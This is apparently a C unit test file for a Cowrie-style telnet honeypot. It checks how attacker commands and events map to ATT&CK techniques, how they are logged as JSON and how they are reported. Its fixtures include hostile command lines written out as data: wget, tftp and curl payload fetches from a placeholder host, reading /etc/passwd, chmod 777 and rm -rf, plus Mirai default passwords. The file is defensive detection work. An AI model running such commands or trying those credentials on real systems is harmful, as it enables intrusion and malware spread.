/*
 * Unit tests of trap/attack.c and trap/event.c: the shipped ATT&CK table
 * names every id it maps, in the T1234(.567) form, and loads; events and
 * commands get their techniques; a malformed table is refused with its
 * line; attacker bytes become UTF-8 with U+FFFD as Python's decoder gives;
 * each event is one JSON line in log/events.json with Cowrie's members
 * and mamori's; through a reporter each event is spooled as an RFC 5424
 * message named by the event, and a login failure also as an X.1367
 * Authentication Failed record that validates.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <regex.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "event.h"
#include "mamori/error.h"
#include "mamori/reporter.h"
#include "mamori/spool.h"
#include "mamori/syslog.h"
#include "mamori/x1367.h"

#define TABLE MAMORI_SRCDIR "/data/trap/attack.tsv"

static void make_dir(char *path, size_t n)
{
	snprintf(path, n, "/tmp/test_trap_event.XXXXXX");
	assert_non_null(mkdtemp(path));
}

static void remove_dir(const char *path)
{
	char cmd[PATH_MAX + 16];

	snprintf(cmd, sizeof cmd, "rm -rf '%s'", path);
	assert_int_equal(system(cmd), 0);
}

static struct trap_attack *load_table(void)
{
	struct trap_attack *a;
	char err[256];

	if (trap_attack_load(TABLE, &a, err, sizeof err) != 0)
		fail_msg("%s", err);
	return a;
}

/* "T1,T2" as the array's strings joined by commas. */
static void joined(const json_t *arr, char *out, size_t n)
{
	size_t i, o = 0;
	json_t *v;

	out[0] = '\0';
	json_array_foreach(arr, i, v) {
		assert_true(json_is_string(v));
		o += (size_t)snprintf(out + o, n - o, "%s%s", i ? "," : "", json_string_value(v));
		assert_true(o < n);
	}
}

/* ---- the table as a file ---- */

/* Read without the loader: every id a mapping uses has the T####(.###)
 * shape and is named by a technique row, which has a name and tactics. */
static void test_table_file(void **state)
{
	char line[1024], named[128][16];
	unsigned nnamed = 0, nmapped = 0, i;
	regex_t re;
	FILE *fp;

	(void)state;
	assert_int_equal(regcomp(&re, "^T[0-9]{4}(\\.[0-9]{3})?$", REG_EXTENDED | REG_NOSUB), 0);
	for (int pass = 0; pass < 2; pass++) {
		assert_non_null(fp = fopen(TABLE, "r"));
		while (fgets(line, sizeof line, fp) != NULL) {
			char *f[4] = {0}, *p = line, *id, *next;
			int n = 0;

			line[strcspn(line, "\n")] = '\0';
			if (line[0] == '#' || line[0] == '\0')
				continue;
			while (n < 4 && (f[n++] = p) != NULL && (p = strchr(p, '\t')) != NULL)
				*p++ = '\0';
			if (strcmp(f[0], "technique") == 0) {
				assert_int_equal(n, 4);
				if (pass == 0) {
					assert_int_equal(regexec(&re, f[1], 0, NULL, 0), 0);
					assert_true(strlen(f[2]) > 0 && strlen(f[3]) > 0);
					assert_true(nnamed < 128);
					snprintf(named[nnamed++], sizeof named[0], "%s", f[1]);
				}
				continue;
			}
			assert_int_equal(n, 3);
			if (pass == 0)
				continue;
			for (id = f[2]; id != NULL; id = next) {
				int found = 0;

				if ((next = strchr(id, ',')) != NULL)
					*next++ = '\0';

				if (regexec(&re, id, 0, NULL, 0) != 0)
					fail_msg("%s: %s is not a technique id", f[1], id);
				for (i = 0; i < nnamed; i++)
					found |= strcmp(named[i], id) == 0;
				if (!found)
					fail_msg("%s: %s is not named by a technique row", f[1], id);
				nmapped++;
			}
		}
		fclose(fp);
	}
	regfree(&re);
	assert_true(nnamed >= 9);
	assert_true(nmapped >= nnamed);
}

static void test_table_names(void **state)
{
	static const struct {
		const char *id, *name, *tactics;
	} t[] = {
		{"T1110.001", "Password Guessing", "credential-access"},
		{"T1078.001", "Default Accounts",
		 "defense-evasion,persistence,privilege-escalation,initial-access"},
		{"T1059.004", "Unix Shell", "execution"},
		{"T1105", "Ingress Tool Transfer", "command-and-control"},
		{"T1222.002", "Linux and Mac File and Directory Permissions Modification",
		 "defense-evasion"},
		{"T1070.004", "File Deletion", "defense-evasion"},
		{"T1082", "System Information Discovery", "discovery"},
		{"T9999", NULL, NULL},
	};
	struct trap_attack *a = load_table();
	size_t i;

	(void)state;
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		const char *tac = "x", *name = trap_attack_name(a, t[i].id, &tac);

		if (t[i].name == NULL) {
			assert_null(name);
			assert_null(tac);
		} else {
			assert_string_equal(name, t[i].name);
			assert_string_equal(tac, t[i].tactics);
		}
	}
	trap_attack_free(a);
}

static void test_attack_event(void **state)
{
	static const struct {
		const char *eventid, *want;
	} t[] = {
		{"cowrie.login.failed", "T1110.001"},
		{"cowrie.login.success", "T1078.001"},
		{"cowrie.command.input", "T1059.004"},
		{"cowrie.command.failed", "T1059.004"},
		{"cowrie.session.file_download", "T1105"},
		{"cowrie.session.file_download.failed", "T1105"},
		{"cowrie.session.connect", ""},
		{"cowrie.session.closed", ""},
		{"trap.session.limit", ""},
	};
	struct trap_attack *a = load_table();
	char got[256];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		json_t *arr = json_array();

		trap_attack_event(a, t[i].eventid, arr);
		trap_attack_event(a, t[i].eventid, arr); /* no duplicates */
		joined(arr, got, sizeof got);
		if (strcmp(got, t[i].want) != 0)
			fail_msg("%s: [%s], expected [%s]", t[i].eventid, got, t[i].want);
		json_decref(arr);
	}
	trap_attack_free(a);
}

static void test_attack_command(void **state)
{
	static const struct {
		const char *argv[5];
		const char *want;
	} t[] = {
		{{"uname", "-a"}, "T1082"},
		{{"/bin/busybox"}, "T1082"},
		{{"/bin/busybox", "MIRAI"}, ""},
		{{"/bin/busybox", "wget", "http://192.0.2.1/x"}, "T1105"},
		{{"tftp", "-g", "-r", "x", "192.0.2.1"}, "T1105"},
		{{"/usr/bin/curl", "-O", "http://192.0.2.1/x"}, "T1105"},
		{{"ftpget", "192.0.2.1", "x", "x"}, "T1105"},
		{{"cat", "/proc/cpuinfo"}, "T1082"},
		{{"cat", "/proc/mounts"}, "T1083"},
		{{"/bin/busybox", "cat", "/proc/mounts"}, "T1083"},
		{{"cat", "/proc/net/tcp"}, "T1016,T1049"},
		{{"cat", "/etc/passwd"}, "T1087.001"},
		{{"cat", "/bin/echo"}, ""},
		{{"ls", "-la", "/"}, "T1083"},
		{{"ps"}, "T1057"},
		{{"chmod", "777", ".t"}, "T1222.002"},
		{{"rm", "-rf", ".t"}, "T1070.004"},
		{{"netstat", "-an"}, "T1016,T1049"},
		{{"ifconfig"}, "T1016"},
		{{"id"}, "T1033"},
		{{"whoami"}, "T1033"},
		{{"kill", "-9", "1"}, ""},
		{{"echo", "/proc/cpuinfo"}, ""},
		{{"enable"}, ""},
	};
	struct trap_attack *a = load_table();
	char got[256];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		json_t *arr = json_array();
		int argc = 0;

		while (argc < 5 && t[i].argv[argc])
			argc++;
		trap_attack_command(a, argc, (char **)t[i].argv, arr);
		joined(arr, got, sizeof got);
		if (strcmp(got, t[i].want) != 0)
			fail_msg("case %zu (%s): [%s], expected [%s]", i, t[i].argv[0], got,
				 t[i].want);
		json_decref(arr);
	}
	trap_attack_free(a);
}

static void test_table_refused(void **state)
{
	static const struct {
		const char *text, *err; /* err: a substring of the message */
	} t[] = {
		{"technique\tT11\tX\tdiscovery\n", ":1: not a technique id"},
		{"technique\tT1082\tX\tdiscovery\nevent\tx\tT1083\n", "T1083 used by \"x\""},
		{"technique\tT1082\tX\tfinding\n", ":1: not an ATT&CK tactic"},
		{"technique\tT1082\tX\tdiscovery\ttoo many\n", ":1: technique needs"},
		{"# ok\n\ntechnique\tT1082\tX\tdiscovery\nrule\tx\tT1082\n", ":4: unknown kind"},
		{"technique\tT1082\tX\tdiscovery\nargv\tcat\tT1082\n", ":2: argv needs"},
		{"technique\tT1082\tX\tdiscovery\ntechnique\tT1082\tY\tdiscovery\n", ":2: technique named twice"},
		{"technique\tT1082\tX\tdiscovery\ncommand\tls\tT1082,\n", ":2: not a technique id"},
	};
	char dir[64], path[PATH_MAX], err[256];
	size_t i;

	(void)state;
	make_dir(dir, sizeof dir);
	snprintf(path, sizeof path, "%s/attack.tsv", dir);
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		struct trap_attack *a = (struct trap_attack *)1;
		FILE *fp = fopen(path, "w");

		assert_non_null(fp);
		fputs(t[i].text, fp);
		fclose(fp);
		assert_int_equal(trap_attack_load(path, &a, err, sizeof err), MM_EINVAL);
		assert_null(a);
		if (strstr(err, t[i].err) == NULL)
			fail_msg("case %zu: \"%s\" does not say \"%s\"", i, err, t[i].err);
	}
	assert_int_equal(trap_attack_load("/nonexistent/attack.tsv", &(struct trap_attack *){0}, err,
					  sizeof err),
			 MM_EIO);
	remove_dir(dir);
}

/* ---- text ---- */

static void test_json_text(void **state)
{
	static const struct {
		const char *in;
		size_t len;
		const char *want;
		size_t want_len;
	} t[] = {
		{"abc", 3, "abc", 3},
		{"caf\xc3\xa9", 5, "caf\xc3\xa9", 5},
		{"\xf0\x9f\x98\x80", 4, "\xf0\x9f\x98\x80", 4},
		{"a\xff" "b", 3, "a\xef\xbf\xbd" "b", 5},
		{"\xe2\x82" "A", 3, "\xef\xbf\xbd" "A", 4},
		{"\xc0\xaf", 2, "\xef\xbf\xbd\xef\xbf\xbd", 6},
		{"\xed\xa0\x80", 3, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", 9},
		{"\xf0\x9f\x98", 3, "\xef\xbf\xbd", 3},
		{"\xf4\x90\x80\x80", 4, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", 12},
		{"a\0b", 3, "a\0b", 3},
		{"", 0, "", 0},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		json_t *s = trap_json_text(t[i].in, t[i].len);

		assert_non_null(s);
		assert_int_equal(json_string_length(s), t[i].want_len);
		assert_memory_equal(json_string_value(s), t[i].want, t[i].want_len);
		json_decref(s);
	}
}

/* ---- events ---- */

static const struct trap_session_id sid = {
	"0123456789ab", "192.0.2.7", "198.51.100.2", 50123, 23,
};

/* The last line of DIR/log/events.json, parsed. */
static json_t *last_event(const char *dir, unsigned *lines, char *raw, size_t rawn)
{
	char path[PATH_MAX], line[65536], last[65536] = "";
	FILE *fp;
	json_t *j;
	json_error_t je;

	snprintf(path, sizeof path, "%s/log/events.json", dir);
	assert_non_null(fp = fopen(path, "r"));
	*lines = 0;
	while (fgets(line, sizeof line, fp) != NULL) {
		assert_non_null(strchr(line, '\n'));
		snprintf(last, sizeof last, "%s", line);
		(*lines)++;
	}
	fclose(fp);
	last[strcspn(last, "\n")] = '\0';
	if (raw)
		snprintf(raw, rawn, "%s", last);
	if ((j = json_loads(last, 0, &je)) == NULL)
		fail_msg("not JSON: %s: %s", je.text, last);
	return j;
}

static void expect_str(const json_t *o, const char *key, const char *want)
{
	const json_t *v = json_object_get(o, key);

	if (!json_is_string(v))
		fail_msg("%s: not a string", key);
	if (strcmp(json_string_value(v), want) != 0)
		fail_msg("%s: \"%s\", expected \"%s\"", key, json_string_value(v), want);
}

static void expect_matches(const json_t *o, const char *key, const char *pattern)
{
	const json_t *v = json_object_get(o, key);
	regex_t re;

	assert_true(json_is_string(v));
	assert_int_equal(regcomp(&re, pattern, REG_EXTENDED | REG_NOSUB), 0);
	if (regexec(&re, json_string_value(v), 0, NULL, 0) != 0)
		fail_msg("%s: \"%s\" is not /%s/", key, json_string_value(v), pattern);
	regfree(&re);
}

static void test_emit(void **state)
{
	static const struct {
		const char *eventid, *name;
		const char *members; /* the event's own members, as JSON */
		const char *attack;
		const char *message; /* NULL: none */
	} t[] = {
		{"cowrie.session.connect", "trap.session.connect", "{}", "",
		 "New connection: 192.0.2.7:50123 (198.51.100.2:23) [session: 0123456789ab]"},
		{"cowrie.client.size", "trap.client.size", "{\"width\":80,\"height\":24}", "",
		 "Terminal Size: 80 24"},
		/* A message the session gives is kept. */
		{"cowrie.login.failed", "trap.login.failed",
		 "{\"username\":\"root\",\"password\":\"xc3511\",\"message\":\"as given\"}",
		 "T1110.001", "as given"},
		{"cowrie.login.success", "trap.login.success",
		 "{\"username\":\"root\",\"password\":\"vizxv\"}", "T1078.001",
		 "login attempt [root/vizxv] succeeded"},
		/* The session's own ids come first and are not repeated. */
		{"cowrie.command.input", "trap.command.input",
		 "{\"input\":\"cat /proc/cpuinfo\",\"attack\":[\"T1082\",\"T1059.004\"]}",
		 "T1082,T1059.004", "CMD: cat /proc/cpuinfo"},
		{"cowrie.command.failed", "trap.command.failed", "{\"input\":\"/bin/busybox MIRAI\"}",
		 "T1059.004", "Command not found: /bin/busybox MIRAI"},
		{"cowrie.session.file_download", "trap.session.file_download",
		 "{\"url\":\"http://192.0.2.1/x.arm\",\"outfile\":\"downloads/ab\",\"shasum\":\"ab\","
		 "\"destfile\":\"/tmp/x\",\"size\":4}",
		 "T1105", "Downloaded URL (http://192.0.2.1/x.arm) with SHA-256 ab to downloads/ab"},
		{"cowrie.session.file_download", "trap.session.file_download",
		 "{\"url\":\"/tmp/.t\",\"outfile\":\"downloads/cd\",\"shasum\":\"cd\","
		 "\"destfile\":\"/tmp/.t\"}",
		 "T1105", "Saved redir contents with SHA-256 cd to downloads/cd"},
		{"cowrie.session.file_download.failed", "trap.session.download.failed",
		 "{\"url\":\"http://192.0.2.1/x.arm\"}", "T1105",
		 "Attempt to download file(s) from URL (http://192.0.2.1/x.arm) failed"},
		{"cowrie.log.closed", "trap.log.closed",
		 "{\"ttylog\":\"tty/0123456789ab.cast\",\"size\":1000}", "",
		 "Closing TTY Log: tty/0123456789ab.cast"},
		{"trap.session.limit", "trap.session.limit", "{\"reason\":\"idle\"}", "", NULL},
		/* Members of the common set are the trap's, whatever ev says. */
		{"cowrie.session.closed", "trap.session.closed",
		 "{\"duration\":12.5,\"session\":\"forged\",\"protocol\":\"ssh\"}", "",
		 "Connection lost after 12 seconds"},
	};
	struct trap_events_opts o = {0};
	struct trap_events_stats st;
	struct trap_events *e;
	struct trap_attack *a = load_table();
	char dir[64], got[256];
	size_t i;
	unsigned lines;

	(void)state;
	make_dir(dir, sizeof dir);
	assert_true((o.dir_fd = open(dir, O_RDONLY | O_DIRECTORY)) >= 0);
	o.sensor = "dvr-01";
	o.attack = a;
	o.quiet = 1;
	assert_int_equal(trap_events_open(&o, &e), 0);
	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		json_t *ev = json_loads(t[i].members, 0, NULL), *j, *want;
		const char *key;
		json_t *v;

		assert_non_null(ev);
		want = json_deep_copy(ev);
		assert_int_equal(trap_events_emit(e, &sid, t[i].eventid, ev), 0);
		j = last_event(dir, &lines, NULL, 0);
		assert_int_equal(lines, i + 1);
		expect_str(j, "eventid", t[i].eventid);
		expect_str(j, "event", t[i].name);
		expect_str(j, "sensor", "dvr-01");
		expect_str(j, "session", "0123456789ab");
		expect_str(j, "src_ip", "192.0.2.7");
		expect_str(j, "dst_ip", "198.51.100.2");
		expect_str(j, "protocol", "telnet");
		assert_int_equal(json_integer_value(json_object_get(j, "src_port")), 50123);
		assert_int_equal(json_integer_value(json_object_get(j, "dst_port")), 23);
		expect_matches(j, "timestamp", "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}"
					       "\\.[0-9]{6}Z$");
		expect_matches(j, "time", "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}"
					  "\\.[0-9]{3}Z$");
		/* The same instant: time is timestamp cut to milliseconds. */
		assert_memory_equal(json_string_value(json_object_get(j, "time")),
				    json_string_value(json_object_get(j, "timestamp")), 23);
		joined(json_object_get(j, "attack"), got, sizeof got);
		assert_string_equal(got, t[i].attack);
		if (t[i].message)
			expect_str(j, "message", t[i].message);
		else
			assert_null(json_object_get(j, "message"));
		json_object_foreach(want, key, v) {
			if (strcmp(key, "attack") == 0 || strcmp(key, "session") == 0 ||
			    strcmp(key, "protocol") == 0)
				continue;
			if (!json_equal(json_object_get(j, key), v))
				fail_msg("%s: member %s differs", t[i].eventid, key);
		}
		json_decref(want);
		json_decref(j);
	}
	trap_events_stats(e, &st);
	assert_int_equal(st.lines, sizeof t / sizeof t[0]);
	assert_int_equal(st.errors, 0);
	assert_int_equal(st.spooled, 0);

	/* Not an event id of the trap: refused, counted, no line. */
	assert_int_equal(trap_events_emit(e, &sid, "ssh.login", json_object()), MM_EINVAL);
	assert_int_equal(trap_events_emit(e, &sid, "cowrie.login.failed", json_string("x")),
			 MM_EINVAL);
	trap_events_stats(e, &st);
	assert_int_equal(st.errors, 2);
	json_decref(last_event(dir, &lines, NULL, 0));
	assert_int_equal(lines, sizeof t / sizeof t[0]);

	/* What an attacker typed that is not UTF-8 arrives as U+FFFD. */
	{
		json_t *ev = json_object(), *j;

		json_object_set_new(ev, "input", trap_json_text("ls \xff\xfe", 5));
		assert_int_equal(trap_events_emit(e, &sid, "cowrie.command.failed", ev), 0);
		j = last_event(dir, &lines, NULL, 0);
		expect_str(j, "input", "ls \xef\xbf\xbd\xef\xbf\xbd");
		json_decref(j);
	}
	trap_events_close(e);
	{
		struct stat sb;
		char path[PATH_MAX];

		snprintf(path, sizeof path, "%s/log/events.json", dir);
		assert_int_equal(stat(path, &sb), 0);
		assert_int_equal(sb.st_mode & 0777, 0600);
	}
	/* Reopening appends. */
	assert_int_equal(trap_events_open(&o, &e), 0);
	assert_int_equal(trap_events_emit(e, &sid, "cowrie.session.closed", NULL), 0);
	trap_events_close(e);
	json_decref(last_event(dir, &lines, NULL, 0));
	assert_int_equal(lines, sizeof t / sizeof t[0] + 2);
	trap_attack_free(a);
	close(o.dir_fd);
	remove_dir(dir);
}

/* The JSON lines of one file (each must parse, and carry "n"), in order;
 * the count, or -1 when the file is not there. */
static int file_ns(const char *path, long long *ns, int max)
{
	FILE *fp = fopen(path, "r");
	char line[4096];
	int n = 0;

	if (!fp)
		return -1;
	while (fgets(line, sizeof line, fp)) {
		json_t *j = json_loads(line, 0, NULL);

		assert_non_null(j);
		assert_true(n < max);
		ns[n++] = json_integer_value(json_object_get(j, "n"));
		json_decref(j);
	}
	fclose(fp);
	return n;
}

/* events.json is rotated past log_max: .1 the newest rotated, the oldest
 * past log_keep dropped, every line whole, nothing out of order. */
static void test_rotation(void **state)
{
	struct trap_events_opts o = {0};
	struct trap_events_stats st;
	struct trap_events *e;
	long long ns[3][200];
	int count[3], i, k;
	char dir[64], path[PATH_MAX];

	(void)state;
	make_dir(dir, sizeof dir);
	assert_true((o.dir_fd = open(dir, O_RDONLY | O_DIRECTORY)) >= 0);
	o.quiet = 1;
	o.log_max = 4096;
	o.log_keep = 2;
	assert_int_equal(trap_events_open(&o, &e), 0);
	for (i = 0; i < 100; i++) {
		json_t *ev = json_object();

		json_object_set_new(ev, "n", json_integer(i));
		assert_int_equal(trap_events_emit(e, &sid, "cowrie.command.input", ev), 0);
	}
	trap_events_stats(e, &st);
	trap_events_close(e);
	assert_true(st.rotations >= 3);
	for (k = 0; k < 3; k++) {
		if (k == 0)
			snprintf(path, sizeof path, "%s/log/events.json", dir);
		else
			snprintf(path, sizeof path, "%s/log/events.json.%d", dir, k);
		count[k] = file_ns(path, ns[k], 200);
		assert_true(count[k] > 0);
	}
	snprintf(path, sizeof path, "%s/log/events.json.3", dir);
	assert_true(access(path, F_OK) != 0);
	/* .2, .1 and the current file hold the last lines, consecutive, up to 99. */
	{
		long long want = ns[2][0];

		for (k = 2; k >= 0; k--)
			for (i = 0; i < count[k]; i++)
				assert_int_equal(ns[k][i], want++);
		assert_int_equal(want, 100);
	}
	close(o.dir_fd);
	remove_dir(dir);
}

/* ---- through the reporter ---- */

static void expect_slice(const struct mm_str *s, const char *want)
{
	if (!s->p || s->len != strlen(want) || memcmp(s->p, want, s->len) != 0)
		fail_msg("expected \"%s\", got \"%.*s\"", want, s->p ? (int)s->len : 6,
			 s->p ? s->p : "absent");
}

static void test_spooled(void **state)
{
	struct trap_events_opts o = {0};
	struct mm_reporter_opts ro;
	struct mm_reporter *rep;
	struct mm_spool *sp;
	struct mm_spool_rec sr;
	struct mm_syslog_msg sm;
	struct mm_x1367_record *rec;
	struct mm_x1367_diags d;
	struct trap_events_stats st;
	struct trap_events *e;
	struct trap_attack *a = load_table();
	char dir[64], spdir[PATH_MAX], line[65536];
	unsigned lines;
	json_t *ev, *desc;

	(void)state;
	make_dir(dir, sizeof dir);
	snprintf(spdir, sizeof spdir, "%s/spool", dir);
	assert_int_equal(mm_spool_open(spdir, NULL, &sp, NULL), 0);
	mm_reporter_opts_default(&ro);
	ro.reporter = (struct mm_reporter_party){MM_X1367_ID_IP, "198.51.100.2"};
	ro.spool = sp;
	ro.hostname = "dvr-01";
	ro.app_name = "mamori-trap";
	assert_int_equal(mm_reporter_new(&ro, &rep), 0);
	assert_true((o.dir_fd = open(dir, O_RDONLY | O_DIRECTORY)) >= 0);
	o.sensor = "dvr-01";
	o.attack = a;
	o.rep = rep;
	o.quiet = 1;
	assert_int_equal(trap_events_open(&o, &e), 0);

	/* The event: MSGID its name, MSG exactly the line in the file. */
	ev = json_pack("{s:s, s:s}", "username", "root", "password", "admin");
	assert_int_equal(trap_events_emit(e, &sid, "cowrie.login.failed", ev), 0);
	json_decref(last_event(dir, &lines, line, sizeof line));
	assert_int_equal(mm_spool_read(sp, &sr), 0);
	assert_int_equal(mm_syslog_parse(sr.data, sr.len, MM_SYSLOG_ONLY_5424, &sm), 0);
	expect_slice(&sm.msgid, "trap.login.failed");
	expect_slice(&sm.app_name, "mamori-trap");
	expect_slice(&sm.hostname, "dvr-01");
	expect_slice(&sm.msg, line);

	/* The X.1367 record of the same failure. */
	assert_int_equal(trap_events_auth_failed(e, &sid, "root"), 0);
	assert_int_equal(mm_spool_read(sp, &sr), 0);
	assert_int_equal(mm_syslog_parse(sr.data, sr.len, MM_SYSLOG_ONLY_5424, &sm), 0);
	expect_slice(&sm.msgid, "X1367");
	assert_int_equal(sm.severity, 4); /* a Security code is a warning */
	assert_int_equal(mm_x1367_decode(sm.msg.p, sm.msg.len, MM_X1367_STRICT, &rec, &d), 0);
	assert_int_equal(rec->code, 0x20);
	assert_string_equal(rec->message, "Authentication Failed");
	assert_string_equal(rec->protocol, "Telnet");
	assert_string_equal(rec->party[MM_X1367_REQUESTER].id[MM_X1367_ID_IP], "192.0.2.7");
	assert_string_equal(rec->party[MM_X1367_RESPONDER].id[MM_X1367_ID_IP], "198.51.100.2");
	assert_string_equal(rec->party[MM_X1367_REPORTER].id[MM_X1367_ID_IP], "198.51.100.2");
	assert_string_equal(rec->party[MM_X1367_REQUESTER].transmitted, "726F6F74");
	desc = rec->description;
	assert_non_null(desc);
	expect_str(desc, "Detail", "login failed for user \"root\"");
	assert_int_equal(mm_x1367_validate(rec, &d), 0);
	mm_x1367_free(rec);

	/* Nothing else was spooled. */
	assert_int_equal(mm_spool_read(sp, &sr), MM_ENOTFOUND);
	trap_events_stats(e, &st);
	assert_int_equal(st.lines, 1);
	assert_int_equal(st.spooled, 2);
	assert_int_equal(st.refused, 0);
	assert_int_equal(st.errors, 0);

	trap_events_close(e);
	mm_reporter_free(rep);
	mm_spool_close(sp);
	trap_attack_free(a);
	close(o.dir_fd);
	remove_dir(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_table_file),    cmocka_unit_test(test_table_names),
		cmocka_unit_test(test_attack_event),  cmocka_unit_test(test_attack_command),
		cmocka_unit_test(test_table_refused), cmocka_unit_test(test_json_text),
		cmocka_unit_test(test_emit),          cmocka_unit_test(test_spooled),
		cmocka_unit_test(test_rotation),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
